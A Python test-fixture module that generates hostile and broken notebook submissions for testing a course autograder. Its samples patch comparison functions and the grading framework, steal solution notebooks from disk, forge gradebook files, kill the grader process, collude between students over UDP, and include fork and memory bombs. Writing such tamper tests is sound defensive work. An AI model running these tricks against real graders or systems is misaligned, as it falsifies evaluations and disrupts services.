"""Hostile and broken submissions for chapter 01, used to test both grading paths.

``ATTACKS``: each is an honest wrong solution (``HONEST_WRONG``) plus an attack on the
grading machinery; a safe grader gives none of them more than the honest wrong solution
earns. ``BROKEN``: malformed or misbehaving submissions; each must become a clear
per-submission reason (or be graded normally), and never stop the batch.

Used by ``tests/test_grader_tamper.py``, ``tests/test_grader_robustness.py`` and
``benchmarks/tamper_table.py``.
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from typing import Callable

import nbformat

from autograder import course
from testkit import catalog, program

ASSIGNMENT = "01-positional-encoding"
PE, ADD, REL = "sinusoidal_positional_encoding", "add_positional_encoding", "relative_position_matrix"

# Three published bugs from the catalog: the honest wrong solution every attack starts from.
HONEST_WRONG = {case.cell: case.source for case in catalog.cases(ASSIGNMENT)
                if case.name in ("cos_uses_pos_minus_1", "adds_in_place", "rotation_transposed")}


@dataclass(frozen=True)
class Submission:
    name: str
    description: str
    build: Callable[[], bytes | None]   # the notebook file's bytes (None: no notebook)
    extra: dict | None = None           # other files in the submission folder
    link: Callable[[], object] | None = None  # the notebook is a symbolic link to this path


def notebook(answers: dict[str, str] | None = None, edit: Callable | None = None) -> bytes:
    nb = program.submission(ASSIGNMENT, answers)
    if edit is not None:
        edit(nb)
    return nbformat.writes(nb).encode()


def wrong_with(cell: str = REL, before: str = "", after: str = "", others: dict | None = None) -> dict:
    """The honest wrong answers, with attack code added to one cell."""
    answers = {k: textwrap.dedent(v).strip("\n") for k, v in HONEST_WRONG.items()}
    answers[cell] = textwrap.dedent(before).strip("\n") + "\n" + answers[cell] + "\n" + \
        textwrap.dedent(after).strip("\n")
    answers.update(others or {})
    return answers


def _grade_cells(nb):
    return [c for c in nb.cells if course.nbgrader_meta(c).get("grade")]


def _edit_metadata(nb) -> None:
    for cell in _grade_cells(nb):
        meta = cell.metadata["nbgrader"]
        meta["points"] = 100
        meta["checksum"] = "0" * 32
        cell.source = "pass"
    for cell in nb.cells:  # solution cells flagged as grade cells worth many points
        meta = course.nbgrader_meta(cell)
        if meta.get("solution"):
            meta["grade"] = True
            meta["points"] = 1000


def _delete_grade_cells(nb) -> None:
    nb.cells = [c for c in nb.cells if not course.nbgrader_meta(c).get("grade")]


def _retype_grade_cells(nb) -> None:
    for cell in _grade_cells(nb):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


STEAL = '''
import glob as _glob, json as _json, os as _os

def _steal(name):
    """Find the instructor's notebook on disk and take the reference solution from it."""
    roots = [_os.getcwd(), "/", "/work", "/tmp", _os.path.expanduser("~")]
    try:
        import autograder
        roots.append(_os.path.dirname(_os.path.dirname(autograder.__file__)))
    except Exception:
        pass
    for root in roots:
        folder = root
        for _ in range(6):
            for path in _glob.glob(_os.path.join(folder, "solutions", "*", "*.ipynb")):
                try:
                    cells = _json.load(open(path))["cells"]
                except Exception:
                    continue
                for cell in cells:
                    if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == name:
                        space = {"np": np}
                        exec("".join(cell["source"]), space)
                        return space[name]
            folder = _os.path.dirname(folder)
    return None
'''

ATTACKS = [
    Submission("run_cell_replaced", "replaces the kernel's run_cell/run_cell_async: later cells "
               "(the tests) do nothing", lambda: notebook(wrong_with(after='''
        from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
        _shell = get_ipython()
        def _skip(raw_cell, *args, **kwargs):
            return ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None))
        async def _skip_async(raw_cell, *args, **kwargs):
            return _skip(raw_cell)
        _shell.run_cell = _skip
        _shell.run_cell_async = _skip_async
        '''))),
    Submission("input_transformer", "registers an IPython input transformer that turns every "
               "later cell into `pass`", lambda: notebook(wrong_with(cell=PE, after='''
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
        '''))),
    Submission("numpy_allclose_patched", "np.allclose/isclose/array_equal always True",
               lambda: notebook(wrong_with(cell=PE, after='''
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        '''))),
    Submission("numpy_testing_patched", "numpy.testing asserts do nothing",
               lambda: notebook(wrong_with(cell=PE, after='''
        import numpy.testing
        for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal",
                      "assert_equal", "assert_almost_equal"):
            setattr(numpy.testing, _name, lambda *a, **k: None)
        '''))),
    Submission("torch_comparisons_patched", "torch.allclose/equal True, torch.testing.assert_close "
               "does nothing", lambda: notebook(wrong_with(cell=PE, after='''
        import torch, torch.testing
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        '''))),
    Submission("fake_checks_module", "a fake autograder.checks in sys.modules whose run() "
               "does nothing", lambda: notebook(wrong_with(cell=PE, after='''
        import sys, types
        _fake = types.ModuleType("autograder.checks")
        _fake.run = lambda *args, **kwargs: None
        sys.modules["autograder.checks"] = _fake
        '''))),
    Submission("import_hook", "a meta-path import hook that serves a do-nothing grading package",
               lambda: notebook(wrong_with(cell=PE, after='''
        import sys, types, importlib.abc, importlib.machinery

        class _Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path=None, target=None):
                if name == "autograder" or name.startswith("autograder."):
                    return importlib.machinery.ModuleSpec(name, self, is_package=True)
            def create_module(self, spec):
                module = types.ModuleType(spec.name)
                module.__path__ = []
                module.run = lambda *args, **kwargs: None
                return module
            def exec_module(self, module):
                pass

        for _name in [m for m in sys.modules if m == "autograder" or m.startswith("autograder.")]:
            del sys.modules[_name]
        sys.meta_path.insert(0, _Hook())
        '''))),
    Submission("verdict_patched", "monkeypatches the real grading package: Verdict.fail and "
               "Check.judge_seen do nothing", lambda: notebook(wrong_with(cell=PE, after='''
        import autograder.checks as _checks
        _checks.Verdict.fail = lambda self, message: None
        _checks.Check.judge_seen = lambda self, seen: []
        '''))),
    Submission("liar_arrays", "returns ndarray subclasses that compare equal to anything",
               lambda: notebook(wrong_with(cell=PE, before='''
        class _Liar(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(self), dtype=bool).view(_Liar)
            __ne__ = lambda self, other: np.zeros(np.shape(self), dtype=bool)
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return True
            def __array_function__(self, func, types, args, kwargs):
                return True
        ''', after='''
        _honest = sinusoidal_positional_encoding
        def sinusoidal_positional_encoding(seq_len, d_model, base=10000.0):
            return _honest(seq_len, d_model, base).view(_Liar)
        '''))),
    Submission("steal_source_notebook", "finds solutions/*.ipynb on disk and executes the "
               "instructor's solution", lambda: notebook(wrong_with(cell=PE, before=STEAL, after='''
        _stolen = _steal("sinusoidal_positional_encoding")
        sinusoidal_positional_encoding = _stolen or sinusoidal_positional_encoding
        ''', others={ADD: HONEST_WRONG[ADD].strip() + '\nadd_positional_encoding = '
                     '_steal("add_positional_encoding") or add_positional_encoding',
                     REL: HONEST_WRONG[REL].strip() + '\nrelative_position_matrix = '
                     '_steal("relative_position_matrix") or relative_position_matrix'}))),
    Submission("steal_reference_module", "imports autograder.reference and builds the answers "
               "from the judges' own reference", lambda: notebook(wrong_with(cell=PE, after='''
        try:
            from autograder.reference.positional_encoding import reference_encoding, reference_rotation
            def sinusoidal_positional_encoding(seq_len, d_model, base=10000.0):
                if seq_len <= 0 or d_model <= 0 or d_model % 2:
                    raise ValueError(f"bad seq_len or d_model: {seq_len}, {d_model}")
                return reference_encoding(np.arange(seq_len), d_model, base)
        except Exception:
            pass
        '''))),
    Submission("metadata_edited", "grade cells emptied, points set to 100, checksums changed, "
               "solution cells flagged as grade cells", lambda: notebook(wrong_with(),
                                                                         edit=_edit_metadata)),
    Submission("grade_cells_deleted", "every grade cell deleted",
               lambda: notebook(wrong_with(), edit=_delete_grade_cells)),
    Submission("grade_cells_retyped", "every grade cell turned into a markdown cell",
               lambda: notebook(wrong_with(), edit=_retype_grade_cells)),
    Submission("os_exit", "os._exit(0) at the end of the last solution cell",
               lambda: notebook(wrong_with(after='''
        import os
        os._exit(0)
        '''))),
    Submission("sys_exit", "raise SystemExit(0) in every solution cell",
               lambda: notebook({k: v + "\nraise SystemExit(0)" for k, v in wrong_with().items()})),
    Submission("signal_handlers", "ignores SIGINT/SIGTERM and arms a timer whose handler "
               "exits cleanly in the middle of grading", lambda: notebook(wrong_with(after='''
        import os, signal
        for _s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            signal.signal(_s, signal.SIG_IGN)
        signal.signal(signal.SIGALRM, lambda *args: os._exit(0))
        signal.setitimer(signal.ITIMER_REAL, 0.5)
        '''))),
    Submission("kill_parent", "kills the process that runs it (the grader)",
               lambda: notebook(wrong_with(after='''
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        '''))),
    Submission("write_results", "looks for grades, results and gradebooks on disk and writes "
               "full marks into them", lambda: notebook(wrong_with(after='''
        import os, json, sqlite3
        def _forge(root, depth=4):
            try:
                entries = list(os.scandir(root))
            except OSError:
                return
            for entry in entries:
                try:
                    if entry.is_dir(follow_symlinks=False) and depth:
                        _forge(entry.path, depth - 1)
                    elif entry.name == "results.json":
                        with open(entry.path, "w") as f:
                            json.dump({"score": 10, "tests": []}, f)
                    elif entry.name == "grades.csv":
                        with open(entry.path, "a") as f:
                            f.write("forged\\n")
                    elif entry.name == "gradebook.db":
                        db = sqlite3.connect(entry.path)
                        db.execute("UPDATE grade SET auto_score = 100")
                        db.commit()
                except Exception:
                    pass
        here = os.getcwd()
        for _ in range(4):
            _forge(here)
            here = os.path.dirname(here)
        _forge("/tmp")
        '''))),
]


def honest_wrong() -> bytes:
    return notebook(wrong_with())


# --- broken and misbehaving submissions ------------------------------------------------------

def _solution() -> nbformat.NotebookNode:
    return program.submission(ASSIGNMENT)


def with_cell_code(code: str, cell: str = ADD) -> bytes:
    nb = _solution()
    for c in nb.cells:
        if course.nbgrader_meta(c).get("grade_id") == cell:
            c.source += "\n" + textwrap.dedent(code).strip("\n")
    return nbformat.writes(nb).encode()


def _nbformat3() -> bytes:
    v3 = nbformat.convert(_solution(), 3)
    return json.dumps(v3).encode()


def _big_stored_output() -> bytes:
    nb = _solution()
    code = next(c for c in nb.cells if c.cell_type == "code")
    code.outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (50 * 1024 * 1024))]
    return nbformat.writes(nb).encode()


def _non_utf8() -> bytes:
    raw = nbformat.writes(_solution()).encode()
    return raw.replace(b"sinusoidal", b"sinus\xff\xfeoidal", 1)


def _solution_deleted() -> bytes:
    nb = _solution()
    nb.cells = [c for c in nb.cells if course.nbgrader_meta(c).get("grade_id") != ADD]
    return nbformat.writes(nb).encode()


def _solution_retyped() -> bytes:
    nb = _solution()
    for c in nb.cells:
        if course.nbgrader_meta(c).get("grade_id") == ADD:
            c.cell_type = "raw"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return nbformat.writes(nb).encode()


def _padded(size: int) -> bytes:
    """The solution padded with trailing whitespace (still valid JSON) to ``size`` bytes."""
    raw = nbformat.writes(_solution()).encode()
    return raw + b" " * (size - len(raw))


def _many_lists(megabytes: int = 27) -> bytes:
    """The solution with ``megabytes`` MB of empty lists in one cell's metadata (issue 18:
    1.7 GB of the grader's memory for 27 MB)."""
    data = json.loads(nbformat.writes(_solution()))
    data["cells"][0]["metadata"]["x"] = "@"
    return json.dumps(data).encode().replace(b'"@"', b"[" + b"[]," * (megabytes * 2**20 // 3) + b"[]]")


def _deeply_nested(depth: int = 300) -> bytes:
    data = json.loads(nbformat.writes(_solution()))
    data["metadata"]["x"] = "@"
    return json.dumps(data).encode().replace(b'"@"', b"[" * depth + b"]" * depth)


def largest_legal() -> bytes:
    """The solution with every limit of ``submissions`` nearly reached at once: the file
    just under ``MAX_BYTES`` (a long string in the notebook's metadata, which is kept), lists
    and objects just under ``MAX_CONTAINERS``, nesting just under ``MAX_DEPTH``, code just
    under ``MAX_CODE`` (comment lines in a solution cell, which is sent to the sandbox)."""
    from autograder.submissions import MAX_BYTES, MAX_CODE, MAX_CONTAINERS, MAX_DEPTH

    nb = _solution()
    cell = next(c for c in nb.cells if course.nbgrader_meta(c).get("grade_id") == ADD)
    code = sum(len(c.source) for c in nb.cells if c.cell_type == "code")
    cell.source += "\n" + ("#" * 99 + "\n") * ((MAX_CODE - code - 1024) // 100)
    data = json.loads(nbformat.writes(nb))
    data["metadata"]["x"], data["metadata"]["y"], data["metadata"]["z"] = "@", "%", "&"
    raw = json.dumps(data).encode()
    lists = MAX_CONTAINERS - raw.count(b"[") - raw.count(b"{") - MAX_DEPTH - 16
    raw = raw.replace(b'"@"', b"[" + b"[]," * (lists - 1) + b"[]]")
    raw = raw.replace(b'"%"', b"[" * (MAX_DEPTH - 4) + b"]" * (MAX_DEPTH - 4))
    return raw.replace(b'"&"', b'"' + b"a" * (MAX_BYTES - len(raw) - 1024) + b'"')


# name -> (submission, expected: "full" marks, "zero", "partial" or "reason" (zero + reason))
BROKEN = [
    (Submission("malformed_json", "truncated JSON", lambda: b'{"cells": [{"cell_type": "code", '),
     "reason"),
    (Submission("nbformat_3", "the solution saved as nbformat 3", _nbformat3), "full"),
    (Submission("missing_notebook", "no notebook in the folder", lambda: None,
                extra={"notes.txt": b"forgot it"}), "reason"),
    (Submission("extra_notebook", "the solution plus an extra notebook", lambda: notebook(),
                extra={"scratch.ipynb": b"{}"}), "full"),
    (Submission("renamed_notebook", "the solution renamed by a browser's download", lambda: None,
                extra={"positional_encoding (1).ipynb": notebook()}), "full"),
    (Submission("renamed_twice", "two browser-renamed copies, no notebook of the right name",
                lambda: None, extra={"positional_encoding (1).ipynb": notebook(),
                                     "positional_encoding (2).ipynb": notebook()}), "reason"),
    (Submission("non_utf8", "invalid UTF-8 bytes in the file", _non_utf8), "reason"),
    (Submission("huge_stored_output", "the solution with a 50 MB output stored in a cell",
                _big_stored_output), "full"),
    (Submission("huge_printed_output", "the solution printing 50 MB while graded",
                lambda: with_cell_code('print("y" * (50 * 1024 * 1024))')), "full"),
    (Submission("infinite_loop", "an infinite loop in a solution cell",
                lambda: with_cell_code("while True:\n    pass")), "reason"),
    (Submission("memory_bomb", "allocates memory until it fails (40 GiB asked)",
                lambda: with_cell_code('''
                    blocks = []
                    while len(blocks) < 400:
                        blocks.append(bytearray(100 * 1024 * 1024))
                    ''')), "full"),
    (Submission("fork_bomb", "forks until the process limit, forever",
                lambda: with_cell_code('''
                    import os
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            pass
                    ''')), "reason"),
    (Submission("segfault", "crashes the interpreter (segmentation fault)",
                lambda: with_cell_code("import ctypes\nctypes.string_at(0)")), "reason"),
    (Submission("os_exit", "os._exit(3) in a solution cell",
                lambda: with_cell_code("import os\nos._exit(3)")), "reason"),
    (Submission("solution_cell_deleted", "the add_positional_encoding cell deleted",
                _solution_deleted), "partial"),
    (Submission("solution_cell_retyped", "the add_positional_encoding cell made a raw cell",
                _solution_retyped), "partial"),
    (Submission("oversized_notebook", "the solution padded to 65 MiB (over the limit)",
                lambda: _padded(65 * 2**20)), "reason"),
    (Submission("many_lists", "27 MB of empty lists in one cell's metadata", _many_lists),
     "reason"),
    (Submission("deeply_nested", "lists nested 300 deep in the notebook's metadata",
                _deeply_nested), "reason"),
    (Submission("largest_legal", "the solution at every reading limit at once (size, lists, "
                "nesting, code)", largest_legal), "full"),
    (Submission("syntax_error", "a syntax error in one solution cell",
                lambda: notebook({ADD: "def add_positional_encoding(x, base=10000.0):\n    return x +"})),
     "partial"),
]


def write(submitted, student: str, item: Submission) -> None:
    """Place one submission under ``submitted/<student>/<assignment>/``."""
    from pathlib import Path

    folder = Path(submitted) / student / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    if item.link is not None:
        (folder / course.notebook_path(ASSIGNMENT).name).symlink_to(item.link())
        return
    content = item.build()
    if content is not None:
        (folder / course.notebook_path(ASSIGNMENT).name).write_bytes(content)
    for name, data in (item.extra or {}).items():
        (folder / name).write_bytes(data)


# --- attacks on the observation boundary, for every chapter ----------------------------------

def honest_wrong_answers(assignment_id: str) -> dict[str, str]:
    """The chapter's honest wrong solution, the baseline its attacks are measured against:
    the solution, with the last exercise replaced by its first hand-written wrong case of the
    catalog (so the baseline earns part of the marks, and an attack has marks to gain)."""
    last = list(course.solution_cells(course.read(course.notebook_path(assignment_id))))[-1]
    case = next(c for c in catalog.written(assignment_id) if c.cell == last and not c.correct)
    return {case.cell: case.source}


def chapter_notebook(assignment_id: str, answers: dict[str, str] | None = None,
                     before: str = "", after: str = "", untouched: bool = False) -> bytes:
    """A chapter's notebook with attack code before the first and after the last solution
    cell; ``untouched``: the learner's stubs instead of the honest wrong answers."""
    if untouched:
        nb = course.read(course.notebook_path(assignment_id, released=True))
    else:
        nb = program.submission(assignment_id, answers)
    solutions = [c for c in nb.cells if course.nbgrader_meta(c).get("solution")]
    solutions[0].source = textwrap.dedent(before).strip("\n") + "\n" + solutions[0].source
    solutions[-1].source += "\n" + textwrap.dedent(after).strip("\n")
    return nbformat.writes(nb).encode()


FORGED_ENCODER = '''
import autograder.data as _data
_data.encode = lambda value: None
'''

NONE_FOR_NOT_IMPLEMENTED = '''
import autograder.data as _data
_real_error = _data.error
_data.error = lambda exc: None if isinstance(exc, NotImplementedError) else _real_error(exc)
'''

FORGED_OBSERVATION = '''
import autograder.data as _data, autograder.checks as _checks
_data.encode = lambda value: None
_real_error = _data.error
_data.error = lambda exc: None if isinstance(exc, NotImplementedError) else _real_error(exc)
_checks.Student.build = lambda self, *args, **kwargs: {"init": "built"}
'''

PATCHED_FRAMEWORK = '''
import autograder.checks as _checks
_checks.Student.build = lambda self, *args, **kwargs: (lambda *a, **k: None)
_checks.Check.observe_in = lambda self, namespace, seeds=None: {
    str(i): {"out": {"kind": "int", "value": 1}} for i in range(len(self.cases))}
_checks.Verdict.fail = lambda self, message: None
'''

ZERO_VALUE_WEIGHTS = '''
import torch as _torch
for _name, _cls in list(globals().items()):
    if isinstance(_cls, type) and issubclass(_cls, _torch.nn.Module) and _cls.__module__ == "__main__":
        def _wrap(cls=_cls, init=_cls.__init__):
            def __init__(self, *args, **kwargs):
                init(self, *args, **kwargs)
                for module in self.modules():
                    if isinstance(getattr(module, "W_value", None), _torch.nn.Linear):
                        _torch.nn.init.zeros_(module.W_value.weight)
            cls.__init__ = __init__
        _wrap()
'''

LYING_STATE_DICT = '''
import torch as _torch
for _name, _cls in list(globals().items()):
    if isinstance(_cls, type) and issubclass(_cls, _torch.nn.Module) and _cls.__module__ == "__main__":
        _cls.state_dict = lambda self, *a, **k: {n: _torch.zeros_like(p) for n, p in
                                                 _torch.nn.Module.state_dict(self).items()}
        _cls.load_state_dict = lambda self, *a, **k: None
        _cls.parameters = lambda self, recurse=True: iter(())
'''


def lookup_table(assignment_id: str) -> str:
    """Attack code that answers every check from a table built offline with the reference
    solution, keyed on the check's seeds as the check module in memory computes them: it
    knows every answer wherever the seeds are the fixed ones (the nbgrader path)."""
    from autograder import checks

    namespace = program.run(assignment_id)
    table = {gid: {"seeds": check.seeds(), "answers": check.observe_in(namespace)}
             for gid, check in checks.checks_for(assignment_id).items()}
    return f'''
import json as _json, autograder.checks as _checks
_TABLE = _json.loads({json.dumps(json.dumps(table))})
_observe_in = _checks.Check.observe_in
def _lookup(self, namespace, seeds=None):
    entry = _TABLE.get(self.grade_id)
    wanted = list(seeds) if seeds is not None else self.seeds()
    if entry and entry["seeds"] == wanted:
        return entry["answers"]
    return _observe_in(self, namespace, seeds)
_checks.Check.observe_in = _lookup
'''


# --- attacks on the judges (issue 19): memory, an inflated tolerance, a forged probe ------------

# The exercise whose answers the causal probes relate, per chapter; the honest wrong answers
# these attacks start from are that exercise without its causal mask.
CAUSAL_EXERCISE = {"03-causal-masking": "CausalAttention",
                   "05-multi-head-attention": "MultiHeadAttention",
                   "06-rope": "RoPEMultiHeadAttention",
                   "07-numpy-decoder": "multi_head_causal_attention"}
MASK_LINE = '        scores = scores.masked_fill(self.mask[:num_tokens, :num_tokens], float("-inf"))'
# the Raschka-style plain-tensor mask (chapter 3's lesson), honest and in place
PLAIN_MASK = {"03-causal-masking": "mask_plain_attribute",
              "05-multi-head-attention": "mask_plain_attribute",
              "06-rope": "mha_plain_mask_attribute"}
IN_PLACE = {"03-causal-masking": "mask_plain_attribute_in_place",
            "05-multi-head-attention": "mask_plain_attribute_in_place"}


def _catalog_answers(assignment_id: str, name: str) -> dict[str, str]:
    [case] = [c for c in catalog.written(assignment_id) if c.name == name]
    return {case.cell: case.source}


def no_mask_answers(assignment_id: str) -> dict[str, str]:
    """The chapter's causal exercise with its mask left out (an honest wrong solution that
    fails the causal probes)."""
    if assignment_id == "07-numpy-decoder":
        return _catalog_answers(assignment_id, "attention_without_causal_mask")
    cell = CAUSAL_EXERCISE[assignment_id]
    cells = course.solution_cells(course.read(course.notebook_path(assignment_id)))
    source = course.strip_markers(cells[cell].source)
    assert MASK_LINE in source, f"no mask line in the solution of {cell}"
    return {cell: source.replace(MASK_LINE + "\n", "")}


def chapter_baselines(assignment_id: str) -> dict[str, dict[str, str]]:
    """Every baseline's answers for one chapter, by name ("untouched", the learner's stubs,
    is not among them: it is the released notebook)."""
    found = {"honest_wrong": honest_wrong_answers(assignment_id)}
    if assignment_id in CAUSAL_EXERCISE:
        found["no_mask"] = no_mask_answers(assignment_id)
    if assignment_id in PLAIN_MASK:
        found["plain_mask"] = _catalog_answers(assignment_id, PLAIN_MASK[assignment_id])
    return found


MEMORY_MODULE = '''
import torch as _torch
def _remember(cls):
    """Remembers the last input and output (on the class: across modules too); when the next
    input agrees with the last on a prefix of tokens, returns the last outputs there."""
    forward = cls.forward
    def remembering(self, x, *args, **kwargs):
        out = forward(self, x, *args, **kwargs)
        last = cls.__dict__.get("_last")
        if last is not None and last[0].shape == x.shape and last[1].shape == out.shape:
            same = (last[0] == x).all(-1).all(0)
            k = 0
            while k < len(same) and bool(same[k]):
                k += 1
            if k:
                out = out.clone()
                out[:, :k] = last[1][:, :k]
        cls._last = (x.detach().clone(), out.detach().clone())
        return out
    cls.forward = remembering
_remember({name})
'''

MEMORY_FUNCTION = '''
import numpy as _np
_forgetful = {name}
_last = []
def {name}(x, *args, **kwargs):
    """A module-level memory: the last input and output; a shared prefix replays it."""
    out = _forgetful(x, *args, **kwargs)
    if _last and _last[0].shape == _np.shape(x) and _last[1].shape == _np.shape(out):
        same = (_last[0] == x).all(-1)
        k = 0
        while k < len(same) and bool(same[k]):
            k += 1
        if k:
            out = _np.array(out, copy=True)
            out[:k] = _last[1][:k]
    _last[:] = [_np.array(x, copy=True), _np.array(out, copy=True)]
    return out
'''

INFLATED_MODULE = '''
def _inflate(cls):
    """One huge finite value at the last position, which the causal probe never compares: a
    tolerance taken from max|output| would admit anything."""
    forward = cls.forward
    def inflated(self, x, *args, **kwargs):
        out = forward(self, x, *args, **kwargs).clone()
        out[..., -1, 0] = 1e30
        return out
    cls.forward = inflated
_inflate({name})
'''

INFLATED_FUNCTION = '''
import numpy as _np
_plain = {name}
def {name}(x, *args, **kwargs):
    out = _np.array(_plain(x, *args, **kwargs), copy=True)
    out[-1, 0] = 1e30
    return out
'''

PROBE_RECOGNISING = '''
import torch as _torch
def _recognise(cls):
    """A forward that answers a meta input with an empty meta tensor of the right shape, and a
    named_buffers() that lists the plain mask attribute as a buffer."""
    forward, named_buffers = cls.forward, cls.named_buffers
    def recognising(self, x, *args, **kwargs):
        if x.device.type == "meta":
            linear = self.out_proj if hasattr(self, "out_proj") else self.W_query
            return _torch.empty(*x.shape[:-1], linear.out_features, device="meta")
        return forward(self, x, *args, **kwargs)
    def forged(self, *args, **kwargs):
        found = list(named_buffers(self, *args, **kwargs))
        if not any(name == "mask" for name, _ in found) and "mask" in self.__dict__:
            found.append(("mask", self.__dict__["mask"]))
        yield from found
    cls.forward, cls.named_buffers = recognising, forged
_recognise({name})
'''


def judge_attacks(assignment_id: str) -> list[tuple[Submission, str]]:
    """(attack, baseline) on the judges, where the chapter has them (issue 19)."""
    found = []
    name = CAUSAL_EXERCISE.get(assignment_id)
    if name:
        function = name[0].islower()
        no_mask = no_mask_answers(assignment_id)
        memory = (MEMORY_FUNCTION if function else MEMORY_MODULE).format(name=name)
        inflated = (INFLATED_FUNCTION if function else INFLATED_MODULE).format(name=name)
        found += [
            (Submission("memory_replay", f"{name} without a mask that remembers its last input "
                        "and output and replays them on a shared prefix",
                        lambda: chapter_notebook(assignment_id, no_mask, after=memory)),
             "no_mask"),
            (Submission("inflated_tolerance", f"{name} without a mask that writes 1e30 at the "
                        "last position", lambda: chapter_notebook(assignment_id, no_mask,
                                                                  after=inflated)),
             "no_mask"),
        ]
    if assignment_id in PLAIN_MASK:
        plain = _catalog_answers(assignment_id, PLAIN_MASK[assignment_id])
        [cell] = plain
        found.append((Submission("probe_recognising", "a plain-tensor mask, a forward that "
                                 "answers meta input with an empty meta tensor, a named_buffers() "
                                 "that lists the plain mask", lambda: chapter_notebook(
                                     assignment_id, plain,
                                     after=PROBE_RECOGNISING.format(name=cell))), "plain_mask"))
    if assignment_id in IN_PLACE:
        in_place = _catalog_answers(assignment_id, IN_PLACE[assignment_id])
        found.append((Submission("in_place_plain_mask", "the plain-tensor mask applied with "
                                 "masked_fill_ in place (Raschka style)",
                                 lambda: chapter_notebook(assignment_id, in_place)),
                      "plain_mask"))
    return found


def chapter_attacks(assignment_id: str) -> list[tuple[Submission, str]]:
    """(attack, baseline) for one chapter; the baseline is "untouched" (the learner's stubs)
    or one of ``chapter_baselines``."""
    wrong = honest_wrong_answers(assignment_id)
    found = [
        (Submission("forged_encoder", "replaces autograder.data.encode with one that records "
                    "None", lambda: chapter_notebook(assignment_id, before=FORGED_ENCODER,
                                                     untouched=True)), "untouched"),
        (Submission("not_implemented_as_none", "records NotImplementedError as None",
                    lambda: chapter_notebook(assignment_id, before=NONE_FOR_NOT_IMPLEMENTED,
                                             untouched=True)), "untouched"),
        (Submission("forged_observation", "the issue's six lines: encode records None, "
                    "NotImplementedError becomes None, Student.build reports a built module",
                    lambda: chapter_notebook(assignment_id, before=FORGED_OBSERVATION,
                                             untouched=True)), "untouched"),
        (Submission("patched_framework", "patches Student.build, Check.observe_in and "
                    "Verdict.fail in the student process", lambda: chapter_notebook(
                        assignment_id, before=PATCHED_FRAMEWORK, untouched=True)), "untouched"),
        (Submission("lookup_table", "answers from a table computed offline for the seeds the "
                    "check module holds", lambda: chapter_notebook(
                        assignment_id, wrong, before=lookup_table(assignment_id))),
         "honest_wrong"),
    ]
    if any(source.lstrip().startswith("class ") for source in wrong.values()):
        found += [
            (Submission("zero_value_weights", "the honest wrong module with W_value zeroed in "
                        "__init__", lambda: chapter_notebook(assignment_id, wrong,
                                                             after=ZERO_VALUE_WEIGHTS)),
             "honest_wrong"),
            (Submission("lying_state_dict", "the honest wrong module whose state_dict, "
                        "load_state_dict and parameters lie", lambda: chapter_notebook(
                            assignment_id, wrong, after=LYING_STATE_DICT)), "honest_wrong"),
        ]
    return found + judge_attacks(assignment_id)


# --- students who talk to each other, and a bomb for the grader --------------------------------

COLLUSION_PORT = 47_811
COLLUSION_ABSTRACT = b"\0attention-course-collusion"

COLLUSION_SERVER = f'''
import json as _json, socket as _socket, threading as _threading, time as _time

def _serve_udp():
    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", {COLLUSION_PORT}))
    while True:
        request, peer = sock.recvfrom(65536)
        n, d, base = _json.loads(request)
        sock.sendto(_json.dumps(sinusoidal_positional_encoding(n, d, base).tolist()).encode(), peer)

def _serve_unix():
    sock = _socket.socket(_socket.AF_UNIX, _socket.SOCK_DGRAM)
    sock.bind({COLLUSION_ABSTRACT!r})
    while True:
        request, peer = sock.recvfrom(65536)

for _target in (_serve_udp, _serve_unix):
    try:
        _threading.Thread(target=_target, daemon=True).start()
    except Exception:
        pass
_time.sleep(8)  # keep serving while the other student is graded
'''

COLLUSION_CLIENT = f'''
import json as _json, socket as _socket

def sinusoidal_positional_encoding(seq_len, d_model, base=10000.0):
    for _ in range(40):
        try:
            sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
            sock.settimeout(0.2)
            sock.sendto(_json.dumps([seq_len, d_model, base]).encode(), ("127.0.0.1", {COLLUSION_PORT}))
            return np.array(_json.loads(sock.recvfrom(1 << 20)[0]))
        except OSError:
            try:
                _socket.socket(_socket.AF_UNIX, _socket.SOCK_DGRAM).connect({COLLUSION_ABSTRACT!r})
            except OSError:
                pass
    raise NotImplementedError("nobody answered")
'''


def collusion_pair() -> list[Submission]:
    """A server (the solution, serving answers over UDP and an abstract unix socket while it
    is graded) and a client (no implementation: it asks the server)."""
    return [
        Submission("collusion_server", "the solution, serving answers over UDP on 127.0.0.1 and "
                   "an abstract unix socket", lambda: notebook(
                       {PE: strip(PE) + "\n" + COLLUSION_SERVER})),
        Submission("collusion_client", "no implementation: asks the other student over UDP",
                   lambda: notebook({PE: COLLUSION_CLIENT, ADD: stub(ADD), REL: stub(REL)})),
    ]


def strip(grade_id: str) -> str:
    """The reference solution of one exercise of chapter 01, as a learner would type it."""
    reference = course.solution_cells(course.read(course.notebook_path(ASSIGNMENT)))
    return course.strip_markers(reference[grade_id].source)


def stub(grade_id: str) -> str:
    released = course.solution_cells(course.read(course.notebook_path(ASSIGNMENT, released=True)))
    return released[grade_id].source


JSON_BOMB_MB = 90
JSON_BOMB = f'''
import os as _os
_head = b'{{"type": "seen", "grade_id": "sinusoidal_values", "seen": ['
_os.write(3, _head + b"[]," * ({JSON_BOMB_MB} * 1024 * 1024 // 3) + b'[]]}}\\n')
_os.write(3, b'[' * 10_000 + b'\\n' + b'{{"a": ' * 40_000 + b'\\n')
'''


